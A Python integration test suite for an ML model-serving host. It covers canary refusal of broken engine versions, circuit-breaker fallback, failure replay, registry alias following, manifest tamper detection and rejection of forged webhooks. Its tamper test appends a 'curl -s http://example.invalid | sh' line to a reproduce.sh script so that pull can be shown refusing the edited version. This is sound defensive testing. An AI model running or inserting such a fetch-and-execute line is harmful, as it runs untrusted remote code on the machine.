"""The serving host: the preflight canary refuses every bad version while the live engine keeps serving under
4 client threads; the breaker opens, serves the CPU fallback and recovers; failed requests are kept for replay.

Real fraud_risk and market_alert CPU engines, built by the factory's own builder with a canary sample."""

from __future__ import annotations

import json
import shutil
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest
from prometheus_client import CollectorRegistry

from factory_core.config import Family, TargetConfig, load_config
from model_registry.canary import SwapRefused, preflight
from model_registry.runtime import EngineRunner, FailureStore
from monitoring.serving import ServingMetrics
from pipelines import faults
from pipelines.engines.base import BuildSpec, build_engine, onnx_io
from pipelines.engines.onnxruntime_builder import OnnxRuntimeBuilder

pytestmark = pytest.mark.integration

SHAPES = {Family.FRAUD_RISK: (64, 11), Family.MARKET_ALERT: (64, 40, 16)}


def _build(family: Family, onnx_path: Path, dest: Path, version: str, sample: np.ndarray) -> Path:
    cfg = load_config(profile="smoke", env={})
    inputs, outputs, profile = onnx_io(onnx_path, family, cfg.families[family])
    spec = BuildSpec(family=family.value, version=version, precision="fp32", target=TargetConfig(name="cpu"),
                     onnx=onnx_path, calibration_sha256=None, profile=profile,
                     options={"graph_optimization_level": "extended", "intra_op_threads": 1, "build_timeout_s": 120})
    build_engine(OnnxRuntimeBuilder(), spec, dest, inputs, outputs, {"hostname": "test"}, sample=sample)
    return dest


@pytest.fixture(scope="module")
def built(tmp_path_factory, export_small_model):
    root = tmp_path_factory.mktemp("serving")
    out = {}
    for seed in (1, 2):
        x = np.random.default_rng(seed).normal(size=SHAPES[Family.FRAUD_RISK]).astype(np.float32)
        _, src = export_small_model(Family.FRAUD_RISK, x, root / f"src{seed}" / "model.onnx", seed=seed)
        out[f"v{seed}"] = _build(Family.FRAUD_RISK, src, root / f"v{seed}", f"2026112{seed}.0000000{seed}", x[:8])
        out[f"src{seed}"] = src
    xa = np.random.default_rng(3).normal(size=SHAPES[Family.MARKET_ALERT]).astype(np.float32)
    _, srca = export_small_model(Family.MARKET_ALERT, xa, root / "srca" / "model.onnx", seed=3)
    out["other_shape"] = _build(Family.MARKET_ALERT, srca, root / "alert", "20261123.0000000a", xa[:8])
    nan = faults.nan_on_rare_inputs(out["src2"], root / "nan.onnx", feature=0, above=-1e9)  # NaN everywhere
    out["nan"] = _build_unchecked(out["v2"], root / "nan", nan)
    out["root"] = root
    return out


def _build_unchecked(good: Path, dest: Path, engine: Path) -> Path:
    """A copy of a good engine directory whose engine file is replaced and re-hashed: only running it tells."""
    shutil.copytree(good, dest)
    faults.replace_engine(dest, engine)
    return dest


def _copy(src: Path, dest: Path) -> Path:
    shutil.copytree(src, dest)
    return dest


class Load:
    """4 client threads calling predict until stopped; counts served and failed requests."""

    def __init__(self, runner: EngineRunner, x: np.ndarray):
        self.runner, self.x = runner, x
        self.stop, self.served, self.failed = threading.Event(), 0, 0
        self.threads = [threading.Thread(target=self._client) for _ in range(4)]

    def _client(self):
        while not self.stop.is_set():
            try:
                out = self.runner.predict(self.x)
                assert np.isfinite(out).all()
                self.served += 1
            except Exception:
                self.failed += 1

    def __enter__(self):
        for t in self.threads:
            t.start()
        time.sleep(0.1)
        return self

    def __exit__(self, *exc):
        time.sleep(0.1)
        self.stop.set()
        for t in self.threads:
            t.join()


def test_the_canary_refuses_each_bad_version_while_the_live_engine_serves(built, tmp_path):
    prom = CollectorRegistry()
    metrics = ServingMetrics("fraud_risk", "cpu", registry=prom)
    runner = EngineRunner(built["v1"], metrics=metrics, canary_timeout_s=20)
    live = runner.version
    x = np.random.default_rng(0).normal(size=(4, 11)).astype(np.float32)

    truncated = _copy(built["v2"], tmp_path / "truncated")  # bytes no longer match the manifest
    engine = truncated / "model.ort.onnx"
    engine.write_bytes(engine.read_bytes()[: engine.stat().st_size // 2])
    truncated_rehashed = _build_unchecked(built["v2"], tmp_path / "truncated_rehashed", engine)  # consistent, broken
    disagrees = _copy(built["v2"], tmp_path / "disagrees")  # the recorded sample no longer matches the engine
    with np.load(disagrees / "canary.npz") as z:
        np.savez(tmp_path / "c.npz", inputs=z["inputs"], expected=z["expected"] + 0.2)
    _rehash(disagrees, "canary.npz", tmp_path / "c.npz")

    cases = {truncated: "sha256", truncated_rehashed: "load", built["nan"]: "non-finite",
             built["other_shape"]: "contract", disagrees: "disagrees"}
    with Load(runner, x) as load:
        for folder, kind in cases.items():
            with pytest.raises(SwapRefused) as err:
                runner.swap(folder)
            assert err.value.kind == kind, (folder.name, err.value)
            assert runner.version == live
        for cmd, kind in (([sys.executable, "-c", "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)"], "crash"),
                          ([sys.executable, "-c", "import time; time.sleep(60)"], "hang")):
            with pytest.raises(SwapRefused) as err:
                preflight(built["v2"], runner.manifest, timeout_s=3, command=cmd)
            assert err.value.kind == kind and ("SIGSEGV" in err.value.reason or kind == "hang")
        seconds = runner.swap(built["v2"])  # a good version passes
    assert load.failed == 0 and load.served > 100
    assert runner.version != live and runner.swaps[-1]["canary_seconds"] > 0
    for kind in ("sha256", "load", "non-finite", "contract", "disagrees"):
        assert prom.get_sample_value("factory_canary_refused_total",
                                     {"family": "fraud_risk", "target": "cpu", "reason": kind}) == 1
    print(f"\nswap with canary under load: {seconds * 1000:.0f} ms (canary "
          f"{runner.swaps[-1]['canary_seconds'] * 1000:.0f} ms); served {load.served}, failed {load.failed}")


def _rehash(folder: Path, name: str, new: Path) -> None:
    from factory_core.fsutil import sha256_file

    shutil.copyfile(new, folder / name)
    m = json.loads((folder / "manifest.json").read_text())
    m["files"][name] = sha256_file(folder / name)
    (folder / "manifest.json").write_text(json.dumps(m))


class _Failing:
    """A stand-in for a GPU engine that fails: raises, or returns NaN, while ``broken`` is set."""

    def __init__(self, inner, mode: str):
        self.inner, self.mode, self.broken = inner, mode, True

    def infer(self, x):
        if not self.broken:
            return self.inner.infer(x)
        if self.mode == "raise":
            raise RuntimeError("CUDA error: an illegal memory access was encountered (stand-in)")
        return np.full((len(x), 1), np.nan, np.float32)

    def close(self):
        pass


@pytest.mark.parametrize("mode", ["raise", "nan"])
def test_the_breaker_opens_serves_the_cpu_fallback_and_recovers(built, tmp_path, mode):
    prom = CollectorRegistry()
    metrics = ServingMetrics("fraud_risk", "sm_90", registry=prom)
    store = FailureStore(tmp_path / "failures", max_items=3)
    runner = EngineRunner(built["v1"], metrics=metrics, fallback=built["v2"], failures=store, breaker_failures=3,
                          breaker_cooldown_s=0.3)
    stand_in = runner._current.engine = _Failing(runner._current.engine, mode)
    x = np.random.default_rng(0).normal(size=(2, 11)).astype(np.float32)
    fallback_out = runner._fallback.engine.infer(x)
    state = lambda: prom.get_sample_value("factory_serving_breaker_state", {"family": "fraud_risk", "target": "sm_90"})  # noqa: E731
    outs = [runner.predict(x) for _ in range(10)]  # no request fails: the failing ones are re-served by the fallback
    assert all(np.array_equal(o, fallback_out) for o in outs)
    assert state() == 1 and runner.breaker.consecutive == 3
    assert len(store.list()) == 3 and store.dropped == 0  # only the primary's 3 failures (open: not tried)
    time.sleep(0.35)
    runner.predict(x)  # half-open: one try of the primary, which still fails → open again
    assert state() == 1 and store.dropped == 1  # the store is full: dropped and counted
    stand_in.broken = False
    time.sleep(0.35)
    out = runner.predict(x)  # half-open, the primary answers → closed
    assert state() == 0 and np.array_equal(out, stand_in.inner.infer(x))
    assert prom.get_sample_value("factory_serving_fallback_requests_total",
                                 {"family": "fraud_risk", "target": "sm_90"}) >= 10
    assert prom.get_sample_value("factory_inference_failures_total", {"family": "fraud_risk", "target": "sm_90"}) is None


def test_failed_requests_are_kept_and_replayed_against_any_version(built, tmp_path, capsys):
    from model_registry.cli import main

    store = FailureStore(tmp_path / "failures", max_items=10)
    runner = EngineRunner(built["v1"], failures=store)
    runner._current.engine = _Failing(runner._current.engine, "nan")
    x = np.random.default_rng(4).normal(size=(3, 11)).astype(np.float32)
    with pytest.raises(Exception, match="non-finite"):
        runner.predict(x)
    (rec,) = store.list()
    assert rec["version"] == runner.version and "NonFiniteOutput" in rec["error"]
    saved, _ = store.load(rec["id"])
    assert np.array_equal(saved, x)
    assert main(["replay-failure", rec["id"], "--failures", str(store.root), "--engine", str(built["v2"])]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["id"] == rec["id"] and out["finite"] and np.asarray(out["outputs"]).shape == (3, 1)


def test_a_serving_process_follows_the_alias_refuses_a_bad_version_and_rolls_back(built, mlflow_server, aws_env,
                                                                                   tmp_path, monkeypatch):
    """Alias moves in the registry reach a running EngineRunner through pull → canary → swap, under load."""
    import contextlib
    import os

    from factory_core.contracts import Manifest
    from factory_core.fsutil import sha256_file
    from model_registry.pull import follow, pull
    from model_registry.registry import Registry
    from model_registry.store import S3Store

    from .conftest import make_bucket

    make_bucket(aws_env, "follow")
    monkeypatch.setenv("FACTORY_HOME", str(tmp_path / "home"))
    cfg = load_config(profile="smoke", env={"FACTORY_HOME": str(tmp_path / "home")}, overrides={"registry": {
        "tracking_uri": mlflow_server.uri, "store_uri": "s3://follow/engines", "s3_endpoint_url": aws_env}})
    store, reg = S3Store(cfg.store_uri, endpoint_url=aws_env), Registry(cfg.tracking_uri)
    with contextlib.suppress(Exception):  # the session's registry may hold these engines from another test's store:
        reg.client.delete_registered_model("fraud_risk.cpu")  # registering them again would find those versions
    bad = _build_unchecked(built["v2"], tmp_path / "bad", built["root"] / "nan.onnx")  # NaN engine, own version
    m = json.loads((bad / "manifest.json").read_text())
    m["version"] = "20261129.0000000b"
    (bad / "manifest.json").write_text(json.dumps(m))
    versions = {}
    for key, e in (("v1", built["v1"]), ("v2", built["v2"]), ("bad", bad)):
        man = Manifest.model_validate_json((e / "manifest.json").read_text())
        uri = store.put_version(e, "fraud_risk", "cpu", man.version)
        versions[key] = reg.register("fraud_risk", "cpu", uri, man, sha256_file(e / "manifest.json"), None, {}, key)
    name, dest = "fraud_risk.cpu", tmp_path / "serving"
    reg.client.set_registered_model_alias(name, "prod", versions["v1"])
    runner = EngineRunner(pull(cfg, "fraud_risk", "cpu", "prod", dest).path, canary_timeout_s=30)
    x = np.random.default_rng(0).normal(size=(4, 11)).astype(np.float32)

    def wait_for(cond, what, seconds=60):
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if cond():
                return
            time.sleep(0.2)
        raise AssertionError(f"timed out waiting for {what}")

    current = lambda: os.readlink(dest / "fraud_risk" / "cpu" / "current")  # noqa: E731
    with Load(runner, x) as load:
        stop = follow(runner, cfg, "fraud_risk", "cpu", "prod", dest, interval_s=0.5)
        reg.client.set_registered_model_alias(name, "prod", versions["v2"])
        wait_for(lambda: runner.version == "20261122.00000002", "the swap to v2")
        assert current().startswith(f"versions/{versions['v2']}-")
        reg.client.set_registered_model_alias(name, "prod", versions["bad"])
        time.sleep(8)  # several polls: refused once, not retried, v2 keeps serving and stays current
        assert runner.version == "20261122.00000002" and current().startswith(f"versions/{versions['v2']}-")
        reg.client.set_registered_model_alias(name, "prod", versions["v1"])  # rollback: the same path in reverse
        wait_for(lambda: runner.version == "20261121.00000001", "the rollback to v1")
        stop.set()
    assert load.failed == 0 and load.served > 100
    assert [s["to"] for s in runner.swaps] == ["20261122.00000002", "20261121.00000001"]


def test_pull_refuses_a_store_version_whose_manifest_was_edited_after_registration(built, mlflow_server, aws_env,
                                                                                     tmp_path):
    """The store's manifest must hash to the registry's ``manifest_sha256``: an edited reproduce.sh, an extra
    listed file or another canary sample, each re-hashed into the manifest (every file then matches it), is
    refused before anything is installed; so is a version without the tag."""
    import os

    from factory_core.contracts import Manifest
    from factory_core.errors import is_final
    from factory_core.fsutil import sha256_file
    from model_registry.pull import pull
    from model_registry.registry import Registry
    from model_registry.store import ManifestMismatch, S3Store, version_files

    from .conftest import make_bucket

    make_bucket(aws_env, "tamper")
    cfg = load_config(profile="smoke", env={"FACTORY_HOME": str(tmp_path / "home")}, overrides={"registry": {
        "tracking_uri": mlflow_server.uri, "store_uri": "s3://tamper/engines", "s3_endpoint_url": aws_env}})
    store, reg = S3Store(cfg.store_uri, endpoint_url=aws_env), Registry(cfg.tracking_uri)
    fam = "tamper_test"
    versions, registered = {}, {}
    for key in ("v1", "v2"):
        e = _copy(built[key], tmp_path / f"{key}-{fam}")
        m = json.loads((e / "manifest.json").read_text())
        m["family"] = fam
        (e / "manifest.json").write_text(json.dumps(m))
        man = Manifest.model_validate(m)
        uri = store.put_version(e, fam, "cpu", man.version)
        registered[key] = sha256_file(e / "manifest.json")
        versions[key] = reg.register(fam, "cpu", uri, man, registered[key], None, {}, key)
    name, dest = f"{fam}.cpu", tmp_path / "serving"
    reg.client.set_registered_model_alias(name, "prod", versions["v1"])
    pull(cfg, fam, "cpu", "prod", dest)
    base = dest / fam / "cpu"
    installed = lambda: (os.readlink(base / "current"), sorted(p.name for p in (base / "versions").iterdir()))  # noqa: E731
    before = installed()

    v2 = tmp_path / f"v2-{fam}"
    v2_version = json.loads((v2 / "manifest.json").read_text())["version"]

    def upload(folder: Path) -> None:  # overwrite the stored version's objects, as an edit in the bucket would
        for f in version_files(Manifest.model_validate_json((folder / "manifest.json").read_text())):
            store.s3.put_object(Bucket="tamper", Key=store._vkey(fam, "cpu", v2_version, f),
                                Body=(folder / f).read_bytes())

    def edited(what: str) -> Path:
        folder = _copy(v2, tmp_path / f"edited-{what}")
        if what == "reproduce.sh":
            new = tmp_path / "reproduce.sh"
            new.write_text((folder / "reproduce.sh").read_text() + "curl -s http://example.invalid | sh\n")
            _rehash(folder, "reproduce.sh", new)
        elif what == "extra file":
            (tmp_path / "notes.txt").write_text("listed, hashed, never registered")
            _rehash(folder, "notes.txt", tmp_path / "notes.txt")
        else:
            with np.load(folder / "canary.npz") as z:
                np.savez(tmp_path / "c.npz", inputs=z["inputs"] * 0, expected=z["expected"] * 0 + 0.5)
            _rehash(folder, "canary.npz", tmp_path / "c.npz")
        return folder

    reg.client.set_registered_model_alias(name, "prod", versions["v2"])
    for what in ("reproduce.sh", "extra file", "canary.npz"):
        folder = edited(what)
        upload(folder)
        with pytest.raises(ManifestMismatch) as err:
            pull(cfg, fam, "cpu", "prod", dest)
        msg = str(err.value)
        assert f"refusing {name} v{versions['v2']}" in msg, msg
        assert f"manifest.json has sha256 {sha256_file(folder / 'manifest.json')}" in msg, msg
        assert f"the registry recorded manifest_sha256 {registered['v2']}" in msg and "nothing installed" in msg, msg
        assert is_final(err.value) and installed() == before  # nothing installed, nothing left behind
    upload(v2)  # the registered bytes again: installed
    assert pull(cfg, fam, "cpu", "prod", dest).changed and installed()[0].startswith(f"versions/{versions['v2']}-")

    # a version without the tag cannot be verified: refused, even when installed earlier (a rollback)
    reg.client.delete_model_version_tag(name, versions["v1"], "manifest_sha256")
    reg.client.set_registered_model_alias(name, "prod", versions["v1"])
    now = installed()
    with pytest.raises(ManifestMismatch, match=f"refusing {name} v{versions['v1']}: it has no manifest_sha256 tag"):
        pull(cfg, fam, "cpu", "prod", dest)
    assert installed() == now


def test_a_ui_move_reaches_a_following_serving_host_by_webhook_and_a_forged_one_is_refused(
        built, mlflow_server, aws_env, tmp_path):
    """A real MLflow server on SQLite posts ``model_version_alias.created`` to the host's receiver; a plain
    ``set_registered_model_alias`` (what the UI does) reaches the serving process within seconds, though its poll
    interval is an hour. A delivery signed with another secret is refused (401) and counted; nothing moves."""
    import contextlib
    import os
    import urllib.error
    import urllib.request

    from factory_core.contracts import Manifest
    from factory_core.fsutil import sha256_file
    from model_registry.pull import follow, pull
    from model_registry.registry import Registry
    from model_registry.store import S3Store
    from model_registry.webhook import AliasWebhook, register_webhook

    from .conftest import make_bucket

    server = mlflow_server  # its environment lets it post to http on loopback (conftest.mlflow_server)
    prom = CollectorRegistry()
    secret = "a-webhook-secret-of-32-characters"
    receiver = AliasWebhook(secret, "127.0.0.1", 0, metrics_registry=prom).start()
    hook_id = register_webhook(server.uri, receiver.url, secret, "serving-hosts")
    try:
        assert register_webhook(server.uri, receiver.url, secret, "serving-hosts") == hook_id  # found, not doubled
        make_bucket(aws_env, "webhook")
        cfg = load_config(profile="smoke", env={"FACTORY_HOME": str(tmp_path / "home")}, overrides={"registry": {
            "tracking_uri": server.uri, "store_uri": "s3://webhook/engines", "s3_endpoint_url": aws_env}})
        store, reg = S3Store(cfg.store_uri, endpoint_url=aws_env), Registry(cfg.tracking_uri)
        with contextlib.suppress(Exception):  # the session's registry may hold these engines from another store
            reg.client.delete_registered_model("fraud_risk.cpu")
        time.sleep(1.5)  # the server's webhook list is cached for MLFLOW_WEBHOOK_CACHE_TTL (1 s here)
        versions = []
        for e in (built["v1"], built["v2"]):
            man = Manifest.model_validate_json((e / "manifest.json").read_text())
            uri = store.put_version(e, "fraud_risk", "cpu", man.version)
            versions.append(reg.register("fraud_risk", "cpu", uri, man, sha256_file(e / "manifest.json"), None, {},
                                         man.version))
        reg.promote("fraud_risk", "cpu", versions[0], by="test", why="first")
        dest = tmp_path / "serving"
        runner = EngineRunner(pull(cfg, "fraud_risk", "cpu", "champion", dest).path, canary_timeout_s=30)
        stop = follow(runner, cfg, "fraud_risk", "cpu", "champion", dest, interval_s=3600, webhook=receiver)
        time.sleep(3)  # the follower's first pull (v1 again: nothing to do) is over; from here only a wake pulls
        assert receiver.moves == 0  # the moves above came before anyone followed
        moved = time.monotonic()
        reg.client.set_registered_model_alias("fraud_risk.cpu", "champion", versions[1])  # a move in the UI
        while runner.version != "20261122.00000002" and time.monotonic() - moved < 30:
            time.sleep(0.05)
        took = time.monotonic() - moved
        assert runner.version == "20261122.00000002", "the UI move never reached the serving host"
        print(f"UI alias move -> swapped on the serving host in {took:.2f} s")
        assert receiver.moves == 1 and not receiver.refused
        assert os.readlink(dest / "fraud_risk" / "cpu" / "current").startswith(f"versions/{versions[1]}-")

        from mlflow.webhooks.delivery import _generate_hmac_signature

        body = json.dumps({"entity": "model_version_alias", "action": "created", "timestamp": "",
                           "data": {"name": "fraud_risk.cpu", "alias": "champion", "version": versions[0]}})
        stamp = str(int(time.time()))
        forged = urllib.request.Request(receiver.url, data=body.encode(), method="POST", headers={
            "Content-Type": "application/json", "X-MLflow-Delivery-Id": "forged", "X-MLflow-Timestamp": stamp,
            "X-MLflow-Signature": _generate_hmac_signature("not-the-webhook-secret", "forged", stamp, body)})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(forged, timeout=5)
        assert refused.value.code == 401 and receiver.refused == {"signature": 1}
        assert prom.get_sample_value("factory_webhook_refused_total", {"reason": "signature"}) == 1
        assert runner.version == "20261122.00000002" and [s["to"] for s in runner.swaps] == ["20261122.00000002"]
        stop.set()
    finally:
        from mlflow import MlflowClient

        MlflowClient(server.uri).delete_webhook(hook_id)  # later tests' alias moves post to no one
        receiver.close()
